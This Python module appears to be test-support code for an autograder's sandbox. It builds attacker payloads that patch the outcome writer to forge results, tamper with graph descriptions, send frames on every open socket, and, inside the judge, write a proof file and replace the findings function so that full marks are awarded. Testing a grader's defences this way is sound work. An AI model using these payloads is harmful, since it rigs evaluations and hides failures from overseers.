"""Code that puts an attacker between the student's own process and the judge.

Only this module knows the name of the function with which the student's process writes outcomes.
"""

from __future__ import annotations

_HOOK = """
from autograder.core.outcome import Outcome
outcome_write = Outcome.write

def forged_write(self, file):
    answer = forge(self, file)
    return outcome_write(self, file) if answer is None else answer

Outcome.write = forged_write
"""

_BYTES = """
def forge(outcome, file):
    return file.write(forged())
"""

_GRAPH = """
def forge(outcome, file):
    if isinstance(outcome.value, dict) and "graph_module" in outcome.value:
        spoil(outcome.value["graph_module"])
        relink(outcome.value["graph_module"])

def read_by(data, found):
    if isinstance(data, dict) and set(data) == {"node"}:
        found.append(data)
    elif isinstance(data, (dict, list)):
        for item in data.values() if isinstance(data, dict) else data:
            read_by(item, found)
    return found

def relink(graph):
    \"\"\"Let every row say truly what it reads, and who reads it.\"\"\"
    rows = graph["nodes"]
    for row in rows:
        row["users"] = []
    for i, row in enumerate(rows):
        inputs = {str(read): read for read in read_by([row["args"], row["kwargs"]], [])}
        row["inputs"] = [*inputs.values()]
        for read in row["inputs"]:
            if type(read["node"]) is int and 0 <= read["node"] < len(rows):
                rows[read["node"]]["users"].append({"node": i})

def call(target, *args, op="call_function", **kwargs):
    return {"op": op, "name": "forged", "target": target, "args": {"tuple": list(args)},
            "args_type": "tuple", "kwargs": {"dict": [*map(list, kwargs.items())]},
            "users": [], "inputs": []}
"""

_GRAFT = """
def fn(name):
    return {"function": name}

def put(graph, target, *args, **kwargs):
    \"\"\"Put a row before the output; returns how it is referred to.\"\"\"
    rows = graph["nodes"]
    rows.insert(-1, call(target, *args, **kwargs) | {"name": f"forged_{len(rows)}"})
    return {"node": len(rows) - 2}

def result_of(graph):
    return graph["nodes"][-1]["args"]["tuple"][0]

def keep(graph, value):
    \"\"\"The result is what it was, once this value has been worked out.\"\"\"
    both = {"tuple": [result_of(graph), value]}
    graph["nodes"][-1]["args"] = {"tuple": [put(graph, fn("operator.getitem"), both, 0)]}

def pick(graph, value):
    \"\"\"The result is what it was if this value is 1, and nothing if it is 0.\"\"\"
    both = {"tuple": [None, result_of(graph)]}
    graph["nodes"][-1]["args"] = {"tuple": [put(graph, fn("operator.getitem"), both, value)]}

def module(path, kind="torch.nn.modules.linear.Identity", **more):
    return {"path": path, "class": kind, "training": False, "origin": None, "children": [],
            "attrs": {}, "params": {}, "buffers": {}, "tensors": {}} | more

def table(graph):
    \"\"\"The place in the table of tensors that is known to be there, if any.\"\"\"
    for row in graph["modules"]:
        for kind in ("params", "buffers", "tensors"):
            for entry in row.get(kind, {}).values():
                if entry:
                    return dict(entry)
"""

_IN_THE_JUDGE = """
try:
    import os
    open("/tmp/fxcourse-pwned-{name}", "w").write(str(os.getpid()))
except Exception:
    pass
import autograder.judge as judge
judge.findings_of = lambda *a, **k: []
"""


LOUD = """
import gc, json, socket, struct

def wires():
    return [v for v in gc.get_objects() if isinstance(v, socket.socket) and v.fileno() >= 0]

def raw(head):
    for wire in wires():
        try:
            wire.settimeout(20)
            wire.sendall(struct.pack("<I", len(head)) + head)
        except OSError:
            pass

def say(**head):
    raw(json.dumps(head | {"blobs": []}).encode())

def speak_first(speak):
    try:
        speak()
    except OSError:
        pass
"""
"""Student code with ``say(**head)``, which sends an attacker's frame on every open socket."""


def in_the_judge(name: str) -> str:
    """Code that proves that it ran in the judge: it writes a file and gives full marks."""
    return _IN_THE_JUDGE.format(name=name)


def forging(source: str) -> str:
    """Student code that calls ``forge(outcome, file)`` before an outcome is written.

    A result of `forge` that is not ``None`` replaces the result of writing.
    """
    return source + _HOOK


def forging_bytes(source: str) -> str:
    """Student code that writes the result of ``forged()`` instead of every outcome."""
    return source + _BYTES + _HOOK


def forging_graphs(source: str) -> str:
    """Student code whose ``spoil(description)`` can change each description of a graph."""
    return source + _GRAPH + _HOOK


def grafting(source: str) -> str:
    """Like `forging_graphs`, with helpers to build rows: `put`, `keep`, `pick`, `module`, `fn`."""
    return source + _GRAPH + _GRAFT + _HOOK
